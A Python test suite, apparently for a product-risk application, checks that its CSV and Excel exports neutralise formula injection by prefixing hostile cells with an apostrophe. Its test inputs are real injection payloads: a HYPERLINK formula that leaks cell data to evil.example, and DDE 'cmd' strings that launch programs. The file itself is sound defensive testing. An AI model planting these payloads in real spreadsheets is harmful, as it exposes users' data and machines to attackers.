"""No export hands a spreadsheet program a formula it did not write (CSV/formula injection).

Hostile text goes out through every Excel/CSV export (dashboard panels, the spot-check plan
workbook, the classifier's predictions, signal detections) and is read back with openpyxl
or csv: text starting with = + - @ tab or CR carries a leading apostrophe and is no formula
cell; real numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from pqrisk.core.safe_export import (
    SafeCsvWriter,
    SafeDictWriter,
    is_formula_like,
    neutralise,
    neutralise_workbook,
)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)
NUMBERS = (-3, -3.5, 0, 42, 1e-9)


def _hostile_cell(value: Any) -> bool:
    """Whether a cell read back could still run as a formula."""
    return isinstance(value, str) and is_formula_like(value)


# ---------------------------------------------------------------- the shared function


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [*NUMBERS, "-3", "+4.5", "-1e5", "普通文本", "", None, True])
def test_numbers_and_plain_text_are_left_alone(value: Any) -> None:
    assert neutralise(value) == value


@given(st.text(max_size=40))
def test_neutralised_text_never_starts_a_formula_and_keeps_every_character(text: str) -> None:
    out = neutralise(text)
    assert not is_formula_like(out)
    assert out in (text, "'" + text)
    assert (out != text) == is_formula_like(text)


def test_csv_writers_neutralise_every_cell() -> None:
    out = io.StringIO()
    SafeCsvWriter(out).writerows([[*HOSTILE, *NUMBERS]])
    fields = ["a", "b"]
    writer = SafeDictWriter(out, fieldnames=fields)
    writer.writerow({"a": HOSTILE[0], "b": -7})
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0][: len(HOSTILE)] == ["'" + h for h in HOSTILE]
    assert rows[0][len(HOSTILE) :] == [str(n) for n in NUMBERS]
    assert rows[1] == ["'" + HOSTILE[0], "-7"]


def test_workbooks_are_neutralised_in_place() -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([*HOSTILE, *NUMBERS])
    assert sheet["A1"].data_type == "f"  # what openpyxl does with "=..." left alone
    neutralise_workbook(book)
    back = _reload(book)
    row = next(back.active.iter_rows(values_only=False))  # type: ignore[union-attr]
    assert [c.value for c in row[: len(HOSTILE)]] == ["'" + h for h in HOSTILE]
    assert all(c.data_type == "s" for c in row[: len(HOSTILE)])
    assert [c.value for c in row[len(HOSTILE) :]] == list(NUMBERS)


def _reload(book: Any) -> Any:
    buf = io.BytesIO()
    book.save(buf)
    return load_workbook(io.BytesIO(buf.getvalue()))


# ---------------------------------------------------------------- every export


def test_dashboard_panel_exports_neutralise_hostile_names() -> None:
    from pqrisk.dashboard.exports import to_csv, to_xlsx
    from pqrisk.dashboard.services import Panel

    panel = Panel(
        name="enterprises",
        title="=企业风险排名",
        scope="全市",
        columns=[("name", "企业名称"), ("score", "得分"), ("delta", "变化")],
        rows=[{"name": h, "score": -3, "delta": -1.5} for h in HOSTILE],
    )
    rows = list(csv.reader(io.StringIO(to_csv(panel).decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]
    assert {(r[1], r[2]) for r in rows[1:]} == {("-3", "-1.5")}

    sheet = load_workbook(io.BytesIO(to_xlsx(panel))).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f" or _hostile_cell(c.value)]
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=3)]
    assert values == [["'" + h, -3, -1.5] for h in HOSTILE]


@pytest.mark.django_db
def test_spot_check_plan_workbook_neutralises_firm_names(alice: Any) -> None:
    from pqrisk.supervision import services
    from pqrisk.web.tests import factories as f

    # Every firm named like a formula: whichever are drawn, their names go out hostile.
    for i in range(40):
        firm = f.enterprise("310115")
        firm.name = f"{HOSTILE[i % len(HOSTILE)]}{i}"
        firm.save(update_fields=["name"])
    plan = services.create_plan(
        alice,
        services.PlanRequest(
            title="=恶意计划名",
            period_start=date(2026, 1, 1),
            period_end=date(2026, 12, 31),
            budget=2,
            seed=1,
        ),
    )
    book = load_workbook(io.BytesIO(services.plan_workbook(plan, alice)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f" or _hostile_cell(c.value)]
    names = [row[1] for row in book["抽查对象"].iter_rows(min_row=2, values_only=True)]
    assert len(names) == 2 and all(n.startswith("'") for n in names)
    assert book["计划概况"]["B1"].value == "'=恶意计划名"
    assert book["计划概况"]["B3"].value == 2  # numbers stay numbers


def test_classifier_predictions_csv_neutralises_the_texts(tmp_path: Path) -> None:
    from pqrisk.cli import main
    from pqrisk.core.screening.classify import IRRELEVANT, RELEVANT, TextClassifier
    from tests.screening_core.test_classify import LABELS, TEXTS, TINY

    model = tmp_path / "m.joblib"
    TextClassifier.fit(TEXTS, LABELS, TINY, task="relevance", cv_folds=3).save(model)
    data = tmp_path / "todo.csv"
    with data.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["编号", "text"])
        writer.writerows([[f"-{i}", h] for i, h in enumerate(HOSTILE, start=1)])
    out = tmp_path / "pred.csv"
    result = CliRunner().invoke(
        main, ["classify", "predict", "--model", str(model), "--data", str(data), "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["text"] for r in rows] == ["'" + h for h in HOSTILE]
    assert {r["pred"] for r in rows} <= {RELEVANT, IRRELEVANT, ""}
    assert [r["编号"] for r in rows] == [f"-{i}" for i in range(1, len(HOSTILE) + 1)]


def test_signal_detections_csv_neutralises_series_names() -> None:
    from pqrisk.core.signals.series_io import read_counts, write_detections
    from pqrisk.core.signals.temporal import detect

    lines = ["series,date,count"]
    for name in ("=cmd|' /C calc'!A0", "电热水壶"):
        lines += [f'"{name}",2026-01-{d:02d},{d % 3}' for d in range(1, 29)]
    table = read_counts(io.StringIO("\n".join(lines) + "\n"))
    out = io.StringIO()
    assert write_detections(out, table, [detect(table.counts, "C1", ppy=365)]) > 0
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    names = {r[0] for r in rows[1:]}
    assert names == {"'=cmd|' /C calc'!A0", "电热水壶"}
